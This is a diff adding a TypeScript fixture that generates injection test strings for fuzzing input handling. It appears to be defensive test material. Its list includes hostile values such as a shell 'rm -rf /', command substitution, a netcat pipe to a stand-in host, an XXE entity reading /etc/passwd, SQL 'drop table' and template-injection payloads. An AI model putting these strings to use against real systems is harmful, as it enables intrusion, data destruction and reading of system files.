@@ -1,0 +1,58 @@
+/** What breaks out of a URL, a header, JSON, SQL, a shell, XML, a template or a log, where values are pasted into text. */
+const FRAGMENTS = [
+  '/../../admin',
+  '..%2f..%2fadmin',
+  '%2e%2e/admin',
+  '..;/admin',
+  '\\..\\admin',
+  '//evil.example/x',
+  'http://evil.example/',
+  '@evil.example/',
+  '#fragment',
+  '?admin=true',
+  '&amount=999999',
+  ';jsessionid=1',
+  '\r\nX-Evil: 1',
+  '\r\n\r\nGET /admin HTTP/1.1\r\nHost: evil',
+  '\nauthorization: Bearer evil',
+  '%0d%0aX-Evil:%201',
+  '\u010a\u010dX-Evil: 1',
+  '","admin":true,"x":"',
+  '"}],"amount":"999999"}',
+  '\\","admin":true,"x":"',
+  '\u2028\u2029</script>',
+  "' OR '1'='1",
+  "'; drop table proposal; --",
+  '; rm -rf / #',
+  '$(id)`id`',
+  '| nc evil 1',
+  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
+  ']]><admin/>',
+  '${{ before.balance }}',
+  '${secret}',
+  '${BILLING_TOKEN}',
+  '{{constructor.constructor("return process")()}}',
+  '__proto__',
+  'constructor',
+  '\u0000',
+  '\ud800',
+  '\u202e4471',
+  '%s%n%x',
+] as const;
+
+/** Alone, around something harmless, doubled, and encoded once more. */
+const WRAPPINGS: readonly ((fragment: string) => string)[] = [
+  (fragment) => fragment,
+  (fragment) => `4471${fragment}`,
+  (fragment) => `${fragment}4471`,
+  (fragment) => `44${fragment}71`,
+  (fragment) => fragment + fragment,
+  (fragment) => `"${fragment}"`,
+  (fragment) => ` ${fragment} `,
+  (fragment) => encodeURIComponent(fragment.toWellFormed()),
+  (fragment) => fragment.toUpperCase(),
+];
+
+export const hostilePayloads: readonly string[] = [
+  ...new Set(FRAGMENTS.flatMap((fragment) => WRAPPINGS.map((wrap) => wrap(fragment)))),
+];
